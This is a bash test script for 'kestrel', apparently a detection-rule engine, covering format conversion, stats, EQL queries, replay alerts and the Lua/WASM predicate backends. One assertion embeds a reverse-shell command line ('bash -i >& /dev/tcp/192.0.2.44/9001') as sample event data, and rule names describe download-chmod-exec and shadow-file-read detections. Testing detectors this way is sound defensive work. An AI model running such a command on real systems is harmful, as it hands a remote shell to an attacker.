#!/usr/bin/env bash
# End-to-end tests of the `kestrel` binary: convert, stats, exit codes and error messages,
# driven the way a user drives them. Needs KESTREL (the binary) and DATA (tests/data).
set -uo pipefail

KESTREL=${KESTREL:?path to the kestrel binary}
DATA=${DATA:?path to tests/data}
EXAMPLES=$(cd "$DATA/../../examples" && pwd)
WORK=$(mktemp -d)
trap 'rm -rf "$WORK"' EXIT

source "$(dirname "$0")/check.sh"

# --- help and usage errors -------------------------------------------------------------
run --help
check "help lists convert" contains "$WORK/out" "convert"
check "help lists stats" contains "$WORK/out" "stats"
check "help exits 0" test "$code" -eq 0
run convert --help
check "convert --help exits 0" test "$code" -eq 0
check "convert --help shows --skip-bad" contains "$WORK/out" "--skip-bad"
run
check "no subcommand is a usage error" test "$code" -eq 2
run convert "$EXAMPLES/events.ndjson"
check "missing --output is a usage error" test "$code" -eq 2
run convert "$EXAMPLES/events.ndjson" -o "$WORK/x.bin"
check "unknown output extension exits 2" test "$code" -eq 2
check "unknown output extension says why" contains "$WORK/err" "use --to ndjson|klog"
run stats --profile bogus "$EXAMPLES/events.ndjson"
check "bad --profile is a usage error" test "$code" -eq 2
run frobnicate
check "unknown subcommand is a usage error" test "$code" -eq 2

# --- convert round trips ----------------------------------------------------------------
run convert "$EXAMPLES/events.ndjson" -o "$WORK/a.klog"
check "ndjson -> klog succeeds" test "$code" -eq 0
check "convert reports the count" contains "$WORK/err" "converted 36 events"
check "klog starts with its magic" test "$(head -c 8 "$WORK/a.klog")" = "KESTRLOG"
run convert "$WORK/a.klog" -o "$WORK/a.ndjson"
check "klog -> ndjson succeeds" test "$code" -eq 0
run convert "$WORK/a.ndjson" -o "$WORK/b.klog" --compress zstd
check "ndjson -> zstd klog succeeds" test "$code" -eq 0
run convert "$WORK/b.klog" -o "$WORK/b.ndjson"
check "zstd klog -> ndjson succeeds" test "$code" -eq 0
check "ndjson -> klog -> ndjson -> klog -> ndjson is stable" cmp -s "$WORK/a.ndjson" "$WORK/b.ndjson"
check "converted output keeps a field" contains "$WORK/a.ndjson" '"command_line":"sh -c bash -i >& /dev/tcp/192.0.2.44/9001 0>&1"'
check "converted output carries the header" contains "$WORK/a.ndjson" '"kestrel":{"event_type":"process","event_id":1,'
"$KESTREL" convert - -o - <"$EXAMPLES/events.ndjson" >"$WORK/c.ndjson" 2>/dev/null
check "stdin -> stdout matches file conversion" cmp -s "$WORK/a.ndjson" "$WORK/c.ndjson"
"$KESTREL" convert - -o "$WORK/d.ndjson" <"$WORK/a.klog" 2>/dev/null
check "klog on stdin is detected" cmp -s "$WORK/a.ndjson" "$WORK/d.ndjson"
run convert "$EXAMPLES/events.ndjson" "$EXAMPLES/events.ndjson" -o "$WORK/two.ndjson"
check "two inputs convert" test "$(wc -l <"$WORK/two.ndjson")" -eq 72
check "event ids continue across inputs" contains "$WORK/two.ndjson" '"event_id":72,'

# --- endgame profile ---------------------------------------------------------------------
run stats --profile endgame --json "$DATA/endgame_sample.json"
check "endgame stats succeed" test "$code" -eq 0
check "endgame types are counted" contains "$WORK/out" '"types":{"network":1,"process":1}'
check "endgame FILETIME becomes the time range" contains "$WORK/out" '"first":"2017-08-30T20:47:31Z"'

# --- stats ----------------------------------------------------------------------------------
run stats "$WORK/a.klog"
check "stats succeeds" test "$code" -eq 0
check "stats counts events" contains "$WORK/out" "events: 36"
check "stats counts by type" grep -qE '^process +26$' "$WORK/out"
check "stats shows field presence" grep -qE '^destination.ip +4 +11.1%$' "$WORK/out"
run stats --json "$EXAMPLES/events.ndjson"
check "stats --json" contains "$WORK/out" '{"events":36,"skipped":0,'

# --- bad input: clear messages, exit 1, --skip-bad --------------------------------------------
printf '{"a":1}\n{"a":\n{"a":3}\n' >"$WORK/bad.ndjson"
run stats "$WORK/bad.ndjson"
check "bad JSON exits 1" test "$code" -eq 1
check "bad JSON names file and line" contains "$WORK/err" "error: $WORK/bad.ndjson:2: invalid JSON"
run stats --skip-bad "$WORK/bad.ndjson"
check "--skip-bad goes on" test "$code" -eq 0
check "--skip-bad counts" contains "$WORK/err" "$WORK/bad.ndjson: skipped 1 bad record"
check "--skip-bad keeps the good records" contains "$WORK/out" "events: 2 (1 bad records skipped)"
run stats "$WORK/missing.ndjson"
check "missing file exits 1" test "$code" -eq 1
check "missing file is named" contains "$WORK/err" "$WORK/missing.ndjson: cannot open: No such file or directory"
head -c 100 "$WORK/a.klog" >"$WORK/trunc.klog"
run stats "$WORK/trunc.klog"
check "truncated klog exits 1" test "$code" -eq 1
check "truncated klog names file and offset" grep -qE "^error: $WORK/trunc.klog:[0-9]+: " "$WORK/err"
cp "$WORK/a.klog" "$WORK/v3.klog"
printf '\x03' | dd of="$WORK/v3.klog" bs=1 seek=8 conv=notrunc status=none
run stats "$WORK/v3.klog"
check "klog version 3 is refused" contains "$WORK/err" "unsupported .klog format version 3 (this build reads version 2)"
run convert "$EXAMPLES/events.ndjson" -o "$WORK/nodir/x.klog"
check "unwritable output exits 1" test "$code" -eq 1
check "unwritable output is named" contains "$WORK/err" "$WORK/nodir/x.klog: cannot create"

# --- query and explain --------------------------------------------------------------------
run query --input "$EXAMPLES/events.ndjson" --id-field process.pid 'process where process.name == "chmod"'
check "query prints the id of each match" test "$(cat "$WORK/out")" = "4121"
check "query exits 0" test "$code" -eq 0
"$KESTREL" query --input - --id-field process.pid 'process where process.name == "chmod"' <"$WORK/a.klog" >"$WORK/out" 2>"$WORK/err"
check "query reads .klog from stdin" test "$(cat "$WORK/out")" = "4121"
run query --input "$EXAMPLES/events.ndjson" 'process where process.name == "chmod"'
check "query prints matches as JSON lines" contains "$WORK/out" '"name":"chmod"'
run query --input "$EXAMPLES/events.ndjson" --id-field process.pid \
  'sequence by process.parent.entity_id with maxspan=1m [process where process.name == "curl"] [process where process.name == "chmod"]'
check "query matches sequences" test "$(cat "$WORK/out")" = "4120 4121"
run query --input "$EXAMPLES/events.ndjson" 'process where proces.name == "x"'
check "a bad query exits 1" test "$code" -eq 1
check "a bad query is explained with a caret" contains "$WORK/err" "<query>:1:15: error: unknown field 'proces.name' (did you mean 'process.name'?)"
run query --input "$EXAMPLES/events.ndjson" --id-field no.such.field 'process where true'
check "an unknown --id-field is a usage error" test "$code" -eq 2
run query 'process where true'
check "query without --input is a usage error" test "$code" -eq 2
run explain 'process where process.name in ("a", "b") and process.args : "-c"'
check "explain shows the IR" contains "$WORK/out" 'ir: (where process (and (in-set $process.name #2) (match $process.args exact~("-c"))))'
check "explain shows prefilters" contains "$WORK/out" 'prefilter: process.name in ("a", "b")'

# --- replay ------------------------------------------------------------------------------
run replay --rules "$EXAMPLES/rules" --input "$EXAMPLES/events.ndjson" --threads 2 --verify
check "replay exits 0" test "$code" -eq 0
check "replay writes one alert per line" test "$(wc -l <"$WORK/out")" -eq 7
check "replay alerts are versioned" contains "$WORK/out" '"kestrel":{"alert":{"version":1,'
check "replay names the rule" contains "$WORK/out" '"rule":{"id":"download_chmod_exec","name":"download_chmod_exec","severity":"medium","tags":[]}'
check "replay copies host.*" contains "$WORK/out" '"host":{"hostname":"web-01","id":"3f2a9c1e-host-0001"'
check "replay summary counts alerts by rule" contains "$WORK/err" "exec_then_connect_out: 3 alerts"
check "replay reports what the rule index saved" contains "$WORK/err" "the rule index saved"
check "replay reports evictions" contains "$WORK/err" "evicted: expired"
check "replay --verify compares thread counts" contains "$WORK/err" "verify: 1 thread wrote identical alerts (7 alerts"
cp "$WORK/out" "$WORK/alerts1"
run replay --rules "$EXAMPLES/rules" --input "$EXAMPLES/events.ndjson" --threads 8 -o "$WORK/alerts8"
check "replay output is byte-identical for 1 and 8 threads" cmp -s "$WORK/alerts1" "$WORK/alerts8"
tac "$EXAMPLES/events.ndjson" >"$WORK/reversed.ndjson"
run replay --rules "$EXAMPLES/rules" --input "$WORK/reversed.ndjson"
check "replay sorts out-of-order input" test "$(wc -l <"$WORK/out")" -eq 7
mkdir -p "$WORK/rules"
cp "$EXAMPLES/rules/shadow_file_read.eql" "$WORK/rules/"
printf 'process where\n  process.nme == "x"\n' >"$WORK/rules/typo.eql"
run replay --rules "$WORK/rules" --input "$EXAMPLES/events.ndjson"
check "a bad rule stops replay" test "$code" -eq 1
check "a bad rule is located file:line:col" contains "$WORK/err" "$WORK/rules/typo.eql:2:3: error: unknown field 'process.nme' (did you mean 'process.name'?)"
check "a bad rule writes no alerts" test ! -s "$WORK/out"
run replay --rules "$WORK/rules" --input "$EXAMPLES/events.ndjson" --skip-bad-rules
check "--skip-bad-rules runs the others" test "$(wc -l <"$WORK/out")" -eq 1
check "--skip-bad-rules names the skipped rule" contains "$WORK/err" "warning: skipped rule: $WORK/rules/typo.eql:2:3"
printf 'sequence [process where true] [process where true] | head 1\n' >"$WORK/piped.eql"
run replay --rules "$WORK/piped.eql" --input "$EXAMPLES/events.ndjson"
check "pipes are refused in rules" contains "$WORK/err" "pipes are for hunting"
printf '[state]\nmax_partials = -1\n' >"$WORK/bad.toml"
run replay --rules "$EXAMPLES/rules" --input "$EXAMPLES/events.ndjson" --config "$WORK/bad.toml"
check "a bad config value is located" contains "$WORK/err" "$WORK/bad.toml:2:16: state.max_partials must not be negative"
printf '[state]\nttl = "5 minutes"\n' >"$WORK/bad.toml"
run replay --rules "$EXAMPLES/rules" --input "$EXAMPLES/events.ndjson" --config "$WORK/bad.toml"
check "a bad duration is explained" contains "$WORK/err" "state.ttl: '5 minutes' has an unknown unit ' minutes'"
printf '[state]\nmax_partials = 1\nmax_partials_per_entity = 1\n' >"$WORK/tight.toml"
run replay --rules "$EXAMPLES/rules" --input "$EXAMPLES/events.ndjson" --config "$WORK/tight.toml"
check "tight quotas evict and count" grep -qE "quota [1-9]" "$WORK/err"

# --- predicate backends -------------------------------------------------------------------
run replay --rules "$EXAMPLES/rules" --input "$EXAMPLES/events.ndjson"
cp "$WORK/out" "$WORK/native.alerts"
for backend in wasm lua; do
  run replay --rules "$EXAMPLES/rules" --input "$EXAMPLES/events.ndjson" --backend "$backend"
  check "replay --backend $backend succeeds" test "$code" -eq 0
  check "replay --backend $backend writes the native alerts" cmp -s "$WORK/out" "$WORK/native.alerts"
  check "replay --backend $backend reports its rules" contains "$WORK/err" "backend $backend: 6 rules"
  run query 'process where process.name : ("bash", "sh") and process.pid > 3' --input "$EXAMPLES/events.ndjson" --backend "$backend"
  cp "$WORK/out" "$WORK/$backend.hunt"
done
run query 'process where process.name : ("bash", "sh") and process.pid > 3' --input "$EXAMPLES/events.ndjson"
check "query --backend wasm finds what native finds" cmp -s "$WORK/out" "$WORK/wasm.hunt"
check "query --backend lua finds what native finds" cmp -s "$WORK/out" "$WORK/lua.hunt"
check "the hunt found something" test -s "$WORK/out"
# Functions, arithmetic and field-to-field comparisons run on the Host API's values.
VALUES_Q='process where length(process.name) > 3 and process.pid + 1 > process.parent.pid * 0 and not startsWith(process.name, "zz")'
run query "$VALUES_Q" --input "$EXAMPLES/events.ndjson"
cp "$WORK/out" "$WORK/values.native"
check "(sanity) the values query finds something" test -s "$WORK/values.native"
for backend in wasm lua; do
  run query "$VALUES_Q" --input "$EXAMPLES/events.ndjson" --backend "$backend"
  check "query --backend $backend computes values as native does" cmp -s "$WORK/out" "$WORK/values.native"
done
run replay --rules "$EXAMPLES/rules" --input "$EXAMPLES/events.ndjson" --backend lua --verify
check "--verify compares every backend" contains "$WORK/err" "verify: backend wasm wrote identical alerts"
check "--verify compares thread counts" contains "$WORK/err" "verify: 2 threads wrote identical alerts"
check "--verify passes" test "$code" -eq 0
mkdir -p "$WORK/prules"
printf '// backend: cobol\nprocess where true\n' >"$WORK/prules/bad_backend.eql"
run replay --rules "$WORK/prules/bad_backend.eql" --input "$EXAMPLES/events.ndjson"
check "an unknown backend is located" contains "$WORK/err" "$WORK/prules/bad_backend.eql:1:13: unknown backend 'cobol'"
printf 'process where startsWith(process.name, "ba")\n' >"$WORK/prules/funcs.eql"
run replay --rules "$WORK/prules/funcs.eql" --input "$EXAMPLES/events.ndjson"
cp "$WORK/out" "$WORK/funcs.native"
check "(sanity) the function rule alerts" test -s "$WORK/funcs.native"
printf '// backend: wasm\nprocess where startsWith(process.name, "ba")\n' >"$WORK/prules/funcs.eql"
run replay --rules "$WORK/prules/funcs.eql" --input "$EXAMPLES/events.ndjson" --verify
check "a rule's own backend runs its functions" contains "$WORK/err" "backend wasm: 1 rule,"
check "... with the native alerts" cmp -s "$WORK/out" "$WORK/funcs.native"
check "... on every backend (--verify)" test "$code" -eq 0
rm "$WORK/prules/"*.eql
# User-written predicates that loop forever (on any name but "nobody"): the rule is disabled after 5 overruns,
# with one kestrel.rule_disabled alert, and the other rules keep alerting.
cat >"$WORK/prules/spin.lua" <<'LUA'
local name = kestrel.field_id("process.name")
return { abi = 1, eval = function(ev, ctx)
  if kestrel.event_get_str(ev, name, 0) ~= "nobody" then while true do end end
  return 1
end }
LUA
cat >"$WORK/prules/spin.wat" <<'WAT'
(module
  (import "kestrel" "field_id" (func $field_id (param i32 i32) (result i32)))
  (import "kestrel" "event_get_str" (func $get_str (param i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "process.name")
  (global $f (mut i32) (i32.const 0))
  (global (export "kestrel_abi") i32 (i32.const 1))
  (func (export "pred_init") (result i32)
    (global.set $f (call $field_id (i32.const 0) (i32.const 12))) (i32.const 0))
  (func (export "check") (param $ev i32) (param $ctx i32) (result i32)
    (drop (call $get_str (local.get $ev) (global.get $f) (i32.const 0) (i32.const 64) (i32.const 16)))
    (if (i32.ne (i32.load (i32.const 64)) (i32.const 0x79646f62)) (then (loop $l (br $l))))
    (i32.const 1)))
WAT
wat2wasm "$WORK/prules/spin.wat" -o "$WORK/prules/spin.wasm"
check "wat2wasm built the test module" test -s "$WORK/prules/spin.wasm"
cp "$EXAMPLES/rules/"*.eql "$WORK/prules/"
for kind in lua wasm; do
  if [ "$kind" = wasm ]; then spec="wasm spin.wasm check"; else spec="lua spin.lua"; fi
  printf '// predicate: %s\nprocess where true\n' "$spec" >"$WORK/prules/zz_spin.eql"
  run replay --rules "$WORK/prules" --input "$EXAMPLES/events.ndjson"
  check "$kind: replay survives a looping predicate" test "$code" -eq 0
  check "$kind: one rule_disabled alert" test "$(grep -c '"type":"kestrel.rule_disabled"' "$WORK/out")" -eq 1
  check "$kind: it says why" contains "$WORK/out" "ran out of its instruction budget"
  check "$kind: the summary names the rule" contains "$WORK/err" "rule zz_spin was disabled"
  check "$kind: 5 overruns counted" contains "$WORK/err" "5 over budget"
  run replay --rules "$WORK/prules" --input "$EXAMPLES/events.ndjson" --metrics "$WORK/metrics.json"
  check "$kind: --metrics names the disabled rule" grep -q '"disabled_rules":\["zz_spin"\]' "$WORK/metrics.json"
  check "$kind: --metrics has latency percentiles" grep -q '"latency_ns":{"sampled":' "$WORK/metrics.json"
  grep -v kestrel.rule_disabled "$WORK/out" | grep -v '"id":"zz_spin"' >"$WORK/others"
  check "$kind: the other rules still alert" cmp -s "$WORK/others" "$WORK/native.alerts"
done
cat >"$WORK/prules/note.lua" <<'LUA'
local name = kestrel.field_id("process.name")
return { abi = 1, eval = function(ev, ctx)
  local s = kestrel.event_get_str(ev, name, 0)
  if s ~= "curl" then return 0 end
  kestrel.alert_emit(ev, "fetched by " .. s)
  return 1
end }
LUA
printf '// predicate: lua note.lua\nprocess where true\n' >"$WORK/prules/zz_spin.eql"
run replay --rules "$WORK/prules" --input "$EXAMPLES/events.ndjson"
check "a user predicate narrows its rule (two curl processes)" test "$(grep -c '"id":"zz_spin"' "$WORK/out")" -eq 2
check "its alert_emit notes are in the alert" contains "$WORK/out" '"notes":["fetched by curl"]'
# kestrel compile writes a predicate another rule can use as its own.
run compile --backend wasm 'process where process.name : ("cur*", "wget")' -o "$WORK/prules/fetch.wasm"
check "compile writes a module" test -s "$WORK/prules/fetch.wasm"
printf '// predicate: wasm fetch.wasm\nprocess where true\n' >"$WORK/prules/zz_spin.eql"
run replay --rules "$WORK/prules" --input "$EXAMPLES/events.ndjson"
check "a compiled module runs as a user predicate" test "$(grep -c '"id":"zz_spin"' "$WORK/out")" -eq 2
run compile --backend lua 'process where process.name : ("cur*", "wget")' -o "$WORK/prules/fetch.lua"
check "compile writes a chunk" contains "$WORK/prules/fetch.lua" "return { abi = 1, eval = pred_eval }"
printf '// predicate: lua missing.lua\nprocess where true\n' >"$WORK/prules/zz_spin.eql"
run replay --rules "$WORK/prules" --input "$EXAMPLES/events.ndjson"
check "a missing predicate file is located" contains "$WORK/err" "zz_spin.eql:1:15: cannot read predicate file"
printf 'return { abi = 2, eval = function() return 1 end }\n' >"$WORK/prules/v2.lua"
printf '// predicate: lua v2.lua\nprocess where true\n' >"$WORK/prules/zz_spin.eql"
run replay --rules "$WORK/prules" --input "$EXAMPLES/events.ndjson"
check "a predicate for another ABI is refused" contains "$WORK/err" "v2.lua: built for Host API v2; this Kestrel provides v1"

finish
